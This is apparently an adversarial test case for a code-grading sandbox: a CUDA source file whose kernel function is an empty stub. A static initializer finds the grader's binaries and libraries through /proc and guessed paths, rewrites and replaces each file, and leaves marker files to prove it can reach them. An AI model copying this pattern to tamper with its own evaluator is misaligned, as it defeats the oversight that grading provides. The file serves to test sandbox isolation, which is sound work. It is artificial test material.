// ATTACK: a static initializer, which runs inside the runner before its main, goes after the
//      grader's install: bin/grade, bin/grader_reference_runner and every file in the lib/ beside
//      that bin/, found through /proc (the executables of running processes named grade or
//      grader_reference_runner), through every directory above the working directory and above
//      itself (bin/, build/bin/), and at guessed relative and absolute paths. A real attacker would
//      replace the reference runner with a wrapper that affects every later grading on the install;
//      this one proves the same access without destroying anything: for each file it
//      - opens it for writing and writes its first byte back unchanged (a new modification time),
//      - replaces it with a byte-identical copy renamed over it (a new inode),
//      and it leaves a new file named grader_adversarial_was_here in bin/ and lib/.
//      The launcher is a stub that writes nothing.
// EXPECTED VERDICT: the install is out of the sandbox's sight: graded, 0 points, and every file
//      under bin/ and lib/ is exactly as before (content, size, mode, inode, modification time),
//      with nothing added.

#include <cuda_runtime.h>

#include <cstdio>
#include <cstdlib>
#include <set>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

std::string link_target(const std::string& path)
{
    char buffer[PATH_MAX];
    const ssize_t n = ::readlink(path.c_str(), buffer, sizeof buffer - 1);
    return n > 0 ? std::string(buffer, static_cast<std::size_t>(n)) : std::string();
}

std::string dir_name(const std::string& path)
{
    const auto slash = path.rfind('/');
    return slash == std::string::npos || slash == 0 ? "/" : path.substr(0, slash);
}

std::string base_name(const std::string& path)
{
    const auto slash = path.rfind('/');
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

bool is_file(const std::string& path)
{
    struct stat st {};
    return ::lstat(path.c_str(), &st) == 0 && S_ISREG(st.st_mode);
}

// Writes the first byte back where it was: nothing changes but the modification time.
bool retouch(const std::string& path)
{
    const int fd = ::open(path.c_str(), O_RDWR);
    if (fd < 0) return false;
    char first = 0;
    const bool done = ::pread(fd, &first, 1, 0) == 1 && ::pwrite(fd, &first, 1, 0) == 1;
    ::close(fd);
    return done;
}

// Renames a byte-identical copy over the file: the same content under a new inode.
bool replace_with_copy(const std::string& path)
{
    struct stat st {};
    if (::stat(path.c_str(), &st) != 0) return false;
    const std::string copy = path + ".grader_adversarial_tmp";
    const int in = ::open(path.c_str(), O_RDONLY);
    if (in < 0) return false;
    const int out = ::open(copy.c_str(), O_WRONLY | O_CREAT | O_EXCL, st.st_mode & 07777);
    if (out < 0) return ::close(in), false;
    std::vector<char> chunk(1 << 20);
    long long copied = 0;
    bool ok = true;
    for (ssize_t n; ok && (n = ::read(in, chunk.data(), chunk.size())) > 0;) {
        for (ssize_t done = 0; ok && done < n;) {
            const ssize_t w = ::write(out, chunk.data() + done, static_cast<std::size_t>(n - done));
            ok = w > 0;
            done += ok ? w : 0;
        }
        copied += n;
    }
    ::close(in);
    ok = ::fsync(out) == 0 && ok;
    ::close(out);
    if (!ok || copied != st.st_size || ::rename(copy.c_str(), path.c_str()) != 0) {   // never a partial copy
        ::unlink(copy.c_str());
        return false;
    }
    return true;
}

void add_ancestors(const std::string& start, std::vector<std::string>& bins)
{
    for (std::string dir = start; !dir.empty() && dir[0] == '/';) {
        bins.push_back(dir + "/bin");
        bins.push_back(dir + "/build/bin");
        if (dir == "/") break;
        dir = dir_name(dir);
    }
}

struct TamperAtStartup {
    TamperAtStartup()
    {
        std::vector<std::string> bins;
        if (DIR* proc = ::opendir("/proc")) {
            while (const dirent* entry = ::readdir(proc)) {
                if (std::atoi(entry->d_name) <= 0) continue;
                const std::string exe = link_target(std::string("/proc/") + entry->d_name + "/exe");
                if (base_name(exe) == "grade" || base_name(exe) == "grader_reference_runner") bins.push_back(dir_name(exe));
            }
            ::closedir(proc);
        }
        char cwd[PATH_MAX];
        if (::getcwd(cwd, sizeof cwd) != nullptr) add_ancestors(cwd, bins);
        add_ancestors(dir_name(link_target("/proc/self/exe")), bins);
        std::string up = "./";
        for (int depth = 0; depth <= 8; ++depth, up += "../") {
            bins.push_back(up + "bin");
            bins.push_back(up + "build/bin");
        }
        bins.push_back("/work/main/build/bin");

        std::set<std::string> seen;
        int installs = 0, retouched = 0, replaced = 0, planted = 0;
        for (const auto& bin : bins) {
            if (!is_file(bin + "/grade") && !is_file(bin + "/grader_reference_runner")) continue;
            char real[PATH_MAX];
            if (::realpath(bin.c_str(), real) == nullptr || !seen.insert(real).second) continue;
            ++installs;
            const std::string lib = dir_name(real) + "/lib";
            std::vector<std::string> targets = {std::string(real) + "/grade", std::string(real) + "/grader_reference_runner"};
            if (DIR* dir = ::opendir(lib.c_str())) {
                while (const dirent* entry = ::readdir(dir)) targets.push_back(lib + "/" + entry->d_name);
                ::closedir(dir);
            }
            for (const auto& target : targets) {
                if (!is_file(target)) continue;
                retouched += retouch(target) ? 1 : 0;
                replaced += replace_with_copy(target) ? 1 : 0;
            }
            for (const auto& dir : {std::string(real), lib}) {
                const int fd = ::open((dir + "/grader_adversarial_was_here").c_str(), O_WRONLY | O_CREAT, 0644);
                if (fd >= 0) ++planted, ::close(fd);
            }
        }
        std::fprintf(stderr, "tampers_with_install: %d install(s) found, %d file(s) retouched, %d replaced, %d planted\n",
                     installs, retouched, replaced, planted);
    }
} tamper_at_startup;

}  // namespace

void scan_kogge_stone(const float* in, float* out, int n)
{
    (void)in, (void)out, (void)n;
}
